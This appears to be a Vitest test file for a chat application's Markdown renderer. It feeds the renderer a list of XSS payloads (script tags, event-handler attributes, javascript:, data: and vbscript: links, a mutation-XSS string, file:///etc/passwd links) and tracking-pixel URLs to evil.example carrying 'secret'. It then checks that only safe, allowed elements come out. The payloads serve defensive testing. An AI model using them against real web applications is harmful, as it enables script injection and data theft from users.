import { cleanup, fireEvent, render, screen } from '@testing-library/react'
import { afterEach, describe, expect, test, vi } from 'vitest'
import { Markdown } from '../../../src/renderer/chat/markdown'
import { createTestPage } from '../helpers/page'

afterEach(cleanup)

const ATTACKS = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<a href="javascript:alert(1)">here</a>',
  '<style>@import "https://evil.example/x.css"</style>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](\u0001javascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '[click](file:///etc/passwd)',
  '[click](http://evil.example)',
  '[click](//evil.example)',
  '[click](app://verdemuse/settings)',
  '[click](smb://evil.example/share)',
  '![pixel](https://evil.example/pixel.png?q=secret)',
  '![pixel][ref]\n\n[ref]: https://evil.example/pixel.png',
  '[![pixel](https://evil.example/a.png)](javascript:alert(1))',
  '<javascript:alert(1)>',
  '[x]: javascript:alert(1)\n\n[x]',
  '[^1]: <img src=x onerror=alert(1)>\n\nnote[^1]',
  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '> <script>alert(1)</script>',
  '- <input autofocus onfocus=alert(1)>',
] as const

const ALLOWED_TAGS = new Set(
  'DIV SECTION SPAN P BR STRONG EM DEL CODE PRE BLOCKQUOTE HR A H3 H4 H5 H6 UL OL LI TABLE THEAD TBODY TR TH TD BUTTON'.split(
    ' ',
  ),
)
const ALLOWED_ATTRIBUTES =
  /^(class|dir|href|rel|title|type|aria-[a-z]+|data-(citation|state|number)|tabindex|start|style)$/

/** What must not be there, in words; empty when all is well. */
function faults(container: Element): string[] {
  const found: string[] = []
  for (const element of container.querySelectorAll('*')) {
    if (!ALLOWED_TAGS.has(element.tagName)) found.push(`<${element.tagName}>`)
    for (const { name, value } of element.attributes) {
      if (!ALLOWED_ATTRIBUTES.test(name)) found.push(`${element.tagName} ${name}`)
      if (name === 'style' && /url|expression|import/i.test(value)) found.push(`style ${value}`)
      if (name === 'href' && !/^(https:|mailto:)/.test(value)) found.push(`href ${value}`)
    }
  }
  return found
}

function show(text: string, passageCount = 2, isStreaming = false) {
  const { Page } = createTestPage()
  return render(
    <Page>
      <div data-testid="answer">
        <Markdown text={text} passageCount={passageCount} isStreaming={isStreaming} />
      </div>
    </Page>,
  )
}

describe('an answer that would be more than text', () => {
  test.each(ATTACKS)('%j becomes nothing but text', (attack) => {
    show(`Before.\n\n${attack}\n\nAfter.`)
    expect(faults(screen.getByTestId('answer'))).toEqual([])
    expect(screen.getByTestId('answer').textContent).toContain('After.')
  })

  test('the guard sees what it is there to see', () => {
    const element = document.createElement('div')
    element.innerHTML = '<img src="x" onerror="alert(1)"><a href="javascript:alert(1)">x</a>'
    expect(faults(element)).toEqual(['<IMG>', 'IMG src', 'IMG onerror', 'href javascript:alert(1)'])
  })

  test('raw HTML is shown as it was written, because it may be what the answer speaks of', () => {
    show('Use <b>bold</b> & <script>x</script>.')
    expect(screen.getByTestId('answer').textContent).toBe('Use <b>bold</b> & <script>x</script>.')
  })

  test('cut at any character, a stream gives no forbidden element', { timeout: 60_000 }, () => {
    const { Page } = createTestPage()
    const show = (text: string) => (
      <Page>
        <Markdown text={text} passageCount={2} isStreaming />
      </Page>
    )
    const { container, rerender } = render(show(''))
    for (const attack of ATTACKS)
      for (let end = 1; end <= attack.length; end++) {
        rerender(show(`See [1]: ${attack.slice(0, end)}`))
        const answer = container.querySelector('.answer-text')
        if (!answer) throw new Error('no answer')
        expect(faults(answer), attack.slice(0, end)).toEqual([])
      }
  })
})

describe('links', () => {
  test('an https link shows its host and opens through the shell', () => {
    const openExternal = vi.fn(async () => {})
    const { Page } = createTestPage({ bridge: { openExternal } })
    render(
      <Page>
        <Markdown text="See [your bank](https://evil.example/login)." passageCount={0} />
      </Page>,
    )
    const link = screen.getByRole('link', { name: 'your bank' })
    expect(link.parentElement?.textContent).toBe('your bank (evil.example)')
    expect(fireEvent.click(link)).toBe(false)
    expect(openExternal).toHaveBeenCalledWith('https://evil.example/login')
  })

  test('a link whose words are its address says it once', () => {
    show('Write to [care@shop.example](mailto:care@shop.example) or see <https://shop.example/help>.')
    expect(screen.getAllByRole('link')).toHaveLength(2)
    expect(screen.getByTestId('answer').textContent).toBe(
      'Write to care@shop.example or see https://shop.example/help.',
    )
  })

  test('words that are another address than the link do not hide it', () => {
    show('See [shop.example](https://evil.example/login).')
    expect(screen.getByTestId('answer').textContent).toBe('See shop.example (evil.example).')
  })

  test('a link that is not https or mailto keeps its words and loses its way', () => {
    show('See [the page](http://plain.example).')
    expect(screen.queryByRole('link')).toBeNull()
    expect(screen.getByTestId('answer').textContent).toBe('See the page.')
  })

  test('an image is its description', () => {
    show('Look: ![a leaf](https://evil.example/leaf.png)')
    expect(screen.getByTestId('answer').textContent).toBe('Look: [image: a leaf]')
  })
})

test('streamed piece by piece, the answer ends as the stored one looks', () => {
  const text =
    'One.\n\n- a\n- b [1]\n\n1. x\n\n2. y\n\n| h | i |\n|---|---|\n| 1 | 2 |\n\n```\ncode\n\nmore\n```\n\nEnd [2].'
  const stored = show(text).container.querySelector('.answer-text')?.innerHTML
  cleanup()
  const { Page } = createTestPage()
  const at = (end: number, isStreaming: boolean) => (
    <Page>
      <Markdown text={text.slice(0, end)} passageCount={2} isStreaming={isStreaming} />
    </Page>
  )
  const { container, rerender } = render(at(0, true))
  for (let end = 3; end < text.length; end += 3) rerender(at(end, true))
  rerender(at(text.length, false))
  expect(container.querySelector('.answer-text')?.innerHTML).toBe(stored)
})

test('each block runs in the direction of its own first letter, and only the outermost is marked', () => {
  const text = '# A\n\nשלום\n\n- one\n\n  two\n\n> said\n\n| a |\n|---|\n| b |'
  const { container } = render(<Markdown text={text} passageCount={0} />)
  const marked = [...container.querySelectorAll('[dir="auto"]')].map(({ tagName }) => tagName)
  expect(marked).toEqual(['H3', 'P', 'LI', 'BLOCKQUOTE', 'TH', 'TD'])
})

test('that no passage answers is not shown as a number while the answer is written', () => {
  const page = createTestPage()
  const text = '[0] Nothing about drones. Later [0]. Code: `list[0]`'
  const { container } = render(<Markdown text={text} passageCount={3} />, { wrapper: page.Page })
  expect(container.textContent).toBe('Nothing about drones. Later. Code: list[0]')
})
